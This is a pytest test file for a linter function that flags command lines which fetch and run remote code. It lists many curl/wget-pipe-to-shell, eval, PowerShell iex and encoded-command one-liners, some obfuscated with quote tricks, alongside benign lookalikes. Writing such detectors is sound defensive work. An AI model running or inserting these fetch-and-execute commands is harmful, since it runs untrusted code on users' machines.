"""Which command lines run what somebody else may change, and which only look like it."""

import pytest

from comet_lint.comet.remote_code import danger_in

SCRIPT = "downloads a script and runs it"
FILE = "downloads a file and runs it"
ENCODED = "runs PowerShell code that is encoded and cannot be read"


@pytest.mark.parametrize(
    ("command", "what"),
    [
        ("curl -fsSL https://get.example.com/i.sh | sh", SCRIPT),
        ("curl -s https://get.example.com/i | sudo -u backup /bin/bash -s -- --yes", SCRIPT),
        ("curl -s https://get.example.com/i 2>/dev/null | bash 2>&1", SCRIPT),
        ("wget -qO- https://get.example.com/i | python3 -u -", SCRIPT),
        ("curl -s https://get.example.com/i.sh.gz | gzip -d | sh", SCRIPT),
        ("cd /tmp && curl -s https://get.example.com/i | base64 -d | perl", SCRIPT),
        ("curl -s https://get.example.com/i | . /dev/stdin", SCRIPT),
        ('sh -c "$(curl -fsSL https://get.example.com/i.sh)"', SCRIPT),
        ('bash -c "curl -s https://get.example.com/i | sh"', SCRIPT),
        ('python3 -c "$(curl -s https://get.example.com/i.py)"', SCRIPT),
        ("eval `curl -s https://get.example.com/i`", SCRIPT),
        ('eval "$(wget -qO- https://get.example.com/i)"', SCRIPT),
        ("source <(curl -s https://get.example.com/i)", SCRIPT),
        ("$(curl -s https://get.example.com/i)", SCRIPT),
        ('powershell -c "& ([scriptblock]::Create((irm https://get.example.com/a.ps1)))"', SCRIPT),
        ('powershell -c "$c = iwr https://get.example.com/a.ps1; iex $c"', SCRIPT),
        ("curl -s https://get.example.com/a.ps1 | iex", SCRIPT),
        ("curl -fsSLo /tmp/i.sh https://get.example.com/i.sh && bash /tmp/i.sh", FILE),
        ("wget https://get.example.com/i.sh; chmod +x i.sh; ./i.sh", FILE),
        ("curl https://get.example.com/i > /tmp/i; sh < /tmp/i", FILE),
        ("powershell iwr https://get.example.com/a.ps1 -OutFile C:\\a.ps1; powershell -File C:\\a.ps1", FILE),
        ("cmd /c curl -o C:\\a.exe https://get.example.com/a.exe && C:\\A.exe", FILE),
        ("curl -O https://get.example.com/i.sh.gz && gunzip i.sh.gz && sh i.sh", FILE),
        ("curl -s https://get.example.com/a.tgz | tar xz -C /tmp/a && /tmp/a/bin/install.sh", FILE),
        ("wget https://get.example.com/a.tgz && tar xzf a.tgz && ./a/install.sh", FILE),
        ("powershell -ExecutionPolicy Bypass -w hidden -enc RQB4AGEAbQBwAGwAZQA=", ENCODED),
        ("C:\\Windows\\System32\\powershell.exe /EncodedCommand RQB4AGEAbQBwAGwAZQA=", ENCODED),
        ('cu"rl" https://example.com/x.sh | s"h"', "downloads a script and runs it"),
        ("c'ert'util -urlcache -f http://example.com/x", "downloads a file with certutil"),
    ],
)
def test_code_from_elsewhere(command: str, what: str) -> None:
    assert danger_in(command) == what


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://localhost:8080/health | python3 -m json.tool",
        "curl -s https://status.example.com | python3 -u -c 'import sys; print(sys.stdin.read())'",
        "curl -s https://status.example.com | perl -ne 'print if /ok/'",
        "curl -s https://status.example.com | node -e 'x'",
        "curl -s https://status.example.com | bash /opt/parse.sh",
        "curl -s https://status.example.com | grep 'a | sh'",
        "curl -s https://status.example.com || sh /opt/alarm.sh",
        "/opt/notify.sh $(curl -s https://status.example.com)",
        "bash /opt/notify.sh $(curl -s https://status.example.com)",
        'echo "curl https://get.example.com | sh"',
        'echo "$(curl -s https://status.example.com)"',
        'powershell -c "Get-Content a.txt -Encoding BigEndianUnicode"',
        "pwsh /opt/x.ps1 -EnvFile /opt/backup/settings",
        "powershell -File C:\\a.ps1 -e AAAAAAAAAAAAAAAAAAAA",
        "wget -q https://dumps.example.com/dump.sql.gz && gunzip -f dump.sql.gz",
        "curl -o /srv/list.txt https://status.example.com/list && sh /opt/read.sh /srv/list.txt",
        "curl -o /srv/list.txt https://status.example.com/list && pwsh -File C:\\read.ps1 /srv/list.txt",
        "wget https://status.example.com/a; sh /opt/before.sh",
        "certutil -hashfile a.iso SHA256",
        "iex -S mix",
    ],
)
def test_harmless(command: str) -> None:
    assert danger_in(command) == ""


@pytest.mark.parametrize(
    "piece", ["eval ", "curl ", "$(", "`", '"', "sh -c ", "cmd /c ", "curl a | ", "sudo ", "<(", "("]
)
def test_repetitive_commands_are_read(piece: str) -> None:
    assert danger_in(piece * 5000) in ("", SCRIPT)
